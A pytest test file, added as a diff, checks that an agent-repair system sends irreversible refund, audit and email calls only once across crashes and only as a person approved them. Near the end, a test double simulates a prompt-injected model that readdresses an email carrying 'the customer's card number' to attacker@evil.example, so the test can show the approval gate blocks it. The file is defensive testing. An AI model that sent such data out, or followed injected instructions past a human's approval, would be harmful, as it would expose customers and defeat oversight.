@@ -1,0 +1,185 @@
+"""A repair's side effects happen once, and only as a person approved them: the call log in
+the store (repair/tools/calllog.py), kill -9 at each point of its protocol, approvals bound to
+the call a stop showed. The tools make real, counted effects (tests/side_effect_tools.py).
+
+The crashes run the real CLI through tests/hooked_cli.py (a real SIGKILL at a checkpoint);
+what comes before and after runs in this process, against the same store (fast)."""
+
+from __future__ import annotations
+
+import json
+import signal
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from provrepair.provenance.errors import NothingToResume
+from provrepair.provenance.ingest import ingest_case
+from provrepair.provenance.state.calls import CallStatus, call_id
+from provrepair.provenance.store.base import GraphStore
+from provrepair.provenance.validate import parse_case
+from provrepair.repair.current import current_case
+from provrepair.repair.derive import ToolCall
+from provrepair.repair.reasoners.base import StepOutput, StepRequest
+from provrepair.repair.reasoners.offline import OfflineReasoner
+from provrepair.repair.service import RepairReport, Resume, repair_task
+from provrepair.repair.tools.calllog import LoggedCall, read_calls, write_calls
+from provrepair.repair.tools.declared import ToolSet
+from tests import hooked_cli, side_effect_tools
+from tests.conftest import REPO, Cli
+
+CASES = REPO / "tests" / "cases"
+REFUND = CASES / "replay" / "small_side_effect_needs_human.json"  # one irreversible refund
+CHAIN = CASES / "calls" / "refund_audit_email.json"  # refund ∥ audit, then an email
+ARGS = {"amount": "$120.00", "order_id": "ORD00200"}
+
+
+def ingest(store: GraphStore, path: Path) -> str:
+    case = parse_case(json.loads(path.read_text()))
+    ingest_case(store, case)
+    return case.task_id
+
+
+def repair(store: GraphStore, task_id: str, tools: ToolSet = side_effect_tools.TOOLS,
+           reasoner: Any = None, **decided: frozenset[str]) -> RepairReport:
+    resume = Resume(**decided) if decided else None
+    return repair_task(store, task_id, reasoner or OfflineReasoner(), tools=tools,
+                       resume=resume)
+
+
+def tools(path: Path, tool: str | None = None) -> list[str]:
+    return [r["tool"] for r in side_effect_tools.made(path, tool)]
+
+
+# (kill point, effects made when killed, then the same resume again: status, effects)
+POINTS = [("before_intent", 0, "repaired", 1),
+          ("after_intent", 0, "needs_human", 0),   # it may have been sent: a person checks
+          ("after_call", 1, "needs_human", 1),     # ... and it is never sent again
+          ("after_result", 1, "repaired", 1)]      # its result is reused
+# (with an idempotency key the tool accepts, an unknown outcome is sent again with the same
+# key: tests/unit/test_call_gate.py, and over MCP in tests/integration/test_agent_e2e.py)
+
+
+@pytest.mark.parametrize("point, at_kill, status, made", POINTS, ids=[p[0] for p in POINTS])
+def test_kill_9_at_each_point_of_the_protocol_never_sends_a_call_twice(
+        falkordb_store: GraphStore, cli: Cli, point: str, at_kill: int, status: str, made: int,
+        effects: Path) -> None:
+    store = falkordb_store
+    task = ingest(store, REFUND)
+    stopped = repair(store, task)
+    refund = call_id("s_003", "issue_refund", ARGS)
+    assert stopped.status == "needs_human" and [p["call_id"] for p in stopped.pending] == [refund]
+    killed = subprocess.run(
+        hooked_cli.command("repair", "--task", task, "--tools", "tests.side_effect_tools:TOOLS",
+                           "--resume", "--approve", "s_003"),
+        capture_output=True, text=True, timeout=120,
+        env={**cli.env, "HOOK_KILL_AT": point, "PYTHONPATH": str(REPO),
+             "PROVREPAIR_TEST_EFFECTS": str(effects)})
+    assert killed.returncode == -signal.SIGKILL, killed.stderr
+    assert len(side_effect_tools.made(effects)) == at_kill
+    again = repair(store, task, approve=frozenset({"s_003"}))  # the same command, again
+    assert again.status == status, again.unresolved
+    assert len(side_effect_tools.made(effects)) == made  # never a second refund
+    logged = {c.call_id: c for c in read_calls(store, task)}[refund]
+    if status == "needs_human":  # the person is told it may have been issued
+        assert again.pending[0]["kind"] == "unknown_outcome"
+        assert "may have been issued" in again.pending[0]["reason"]
+        assert logged.status is CallStatus.ISSUING and logged.attempts == 1
+    else:
+        assert again.answer == "Refunded $120.00 for ORD00200."
+        assert logged.status is CallStatus.DONE and logged.approved_run is not None
+
+
+def test_the_log_keeps_each_transition_on_both_engines(store: GraphStore) -> None:
+    """The log's two statements on each engine: a call first shown, then sent, then answered
+    is one :ToolCall, keeping when it first entered the log."""
+    task = ingest(store, REFUND)
+    shown = LoggedCall(call_id("s_003", "issue_refund", ARGS), "s_003", "issue_refund", ARGS,
+                       CallStatus.PENDING, "irreversible", run_id="run-1", created=1000)
+    write_calls(store, task, [shown])
+    sent = LoggedCall(**{**shown.__dict__, "status": CallStatus.ISSUING, "attempts": 1,
+                         "run_id": "run-2", "approved_run": "run-2", "created": 2000})
+    write_calls(store, task, [sent])
+    write_calls(store, task, [LoggedCall(**{**sent.__dict__, "status": CallStatus.DONE,
+                                            "result": "Refunded", "facts": [{"a": 1}]})])
+    [logged] = read_calls(store, task)
+    assert (logged.status, logged.attempts, logged.run_id, logged.approved_run, logged.result,
+            logged.facts, logged.created, logged.args) == (
+        CallStatus.DONE, 1, "run-2", "run-2", "Refunded", [{"a": 1}], 1000, ARGS)
+
+
+def test_approving_one_stop_at_a_time_makes_progress_and_acts_once(
+        falkordb_store: GraphStore, effects: Path) -> None:
+    """Three irreversible calls, the first two sent together (parallel): the first stop shows
+    both, the email waits for the refund's result. Approving one at a time, then the rest:
+    three approvals, each call sent once, and the graph holds what was sent."""
+    store = falkordb_store  # in-process, one engine (the crash test runs over Bolt too)
+    task = ingest(store, CHAIN)
+    first = repair(store, task)
+    assert first.status == "needs_human" and tools(effects) == []
+    assert [(p["step_id"], p["tool"], p["args"]) for p in first.pending] == [
+        ("s_003", "issue_refund", ARGS), ("s_004", "log_audit", ARGS)]
+    second = repair(store, task, approve=frozenset({"s_003"}))
+    assert second.status == "needs_human" and tools(effects) == ["issue_refund"]
+    assert [(p["step_id"], p["args"]) for p in second.pending] == [
+        ("s_004", ARGS),
+        ("s_007", {"to": "me@example.com", "body": "Refunded $120.00 for ORD00200."})]
+    done = repair(store, task, approve=frozenset({"s_004", "s_007"}))
+    assert done.status == "repaired", done.unresolved
+    assert tools(effects) == ["issue_refund", "log_audit", "send_email"]
+    assert done.answer == "Refunded $120.00 for ORD00200; the email says so."
+    assert done.counts["reused_calls"] == 1 and done.counts["tool_calls"] == 2
+    # each action and its observation are the ones sent; the poisoned results are gone
+    trace = {s["step_id"].split("@")[0]: s["content"] for s in current_case(store, task)["trace"]}
+    assert trace["s_005"] == "Refunded $120.00 for ORD00200 (R-1)"
+    assert trace["s_006"] == "Audit entry A-1: refund $120.00 for ORD00200"
+    assert trace["s_008"] == "Email E-1 sent to me@example.com"
+    assert "$240.00" not in json.dumps(trace)
+    logged = {c.tool: (c.status, c.attempts, c.approved_run) for c in read_calls(store, task)}
+    assert logged == {"issue_refund": (CallStatus.DONE, 1, second.run_id),
+                      "log_audit": (CallStatus.DONE, 1, done.run_id),
+                      "send_email": (CallStatus.DONE, 1, done.run_id)}
+    assert repair(store, task).status == "already_repaired" and len(tools(effects)) == 3
+
+
+class RewrittenEmail:
+    """The offline reasoner, except that from its `after`-th request for the email step on it
+    writes the email to someone else (as a prompt injection in a tool result could make a
+    model do)."""
+
+    name = "offline"
+
+    def __init__(self, after: int):
+        self.after, self.asked, self.inner = after, 0, OfflineReasoner()
+
+    def regenerate(self, request: StepRequest) -> StepOutput:
+        output = self.inner.regenerate(request)
+        if request.step.step_id == "s_007" and output.tool_call is not None:
+            self.asked += 1
+            if self.asked > self.after:
+                call = ToolCall("send_email", {"to": "attacker@evil.example",
+                                               "body": "the customer's card number"})
+                return StepOutput(call.content(), output.cited_ids, tool_call=call)
+        return output
+
+
+def test_an_approval_never_lets_through_a_call_other_than_the_one_shown(
+        falkordb_store: GraphStore, effects: Path) -> None:
+    store = falkordb_store
+    task = ingest(store, CHAIN)
+    repair(store, task)
+    shown = repair(store, task, approve=frozenset({"s_003", "s_004"}))
+    email = next(p for p in shown.pending if p["step_id"] == "s_007")
+    assert email["args"]["to"] == "me@example.com"
+    # the person approves the email they were shown; the replay now writes another one
+    again = repair(store, task, reasoner=RewrittenEmail(after=0), approve=frozenset({"s_007"}))
+    assert again.status == "needs_human" and tools(effects, "send_email") == []
+    [other] = again.pending
+    assert other["args"]["to"] == "attacker@evil.example" and other["call_id"] != email["call_id"]
+    with pytest.raises(NothingToResume, match=f"is #{other['call_id']}, not #{email['call_id']}"):
+        repair(store, task, approve=frozenset({f"s_007:{email['call_id']}"}))
+    skipped = repair(store, task, reasoner=RewrittenEmail(after=0), skip=frozenset({"s_007"}))
+    assert skipped.status == "partial" and "not re-issued (--skip)" in skipped.unresolved["s_007"]
+    assert tools(effects) == ["issue_refund", "log_audit"]  # no email was ever sent
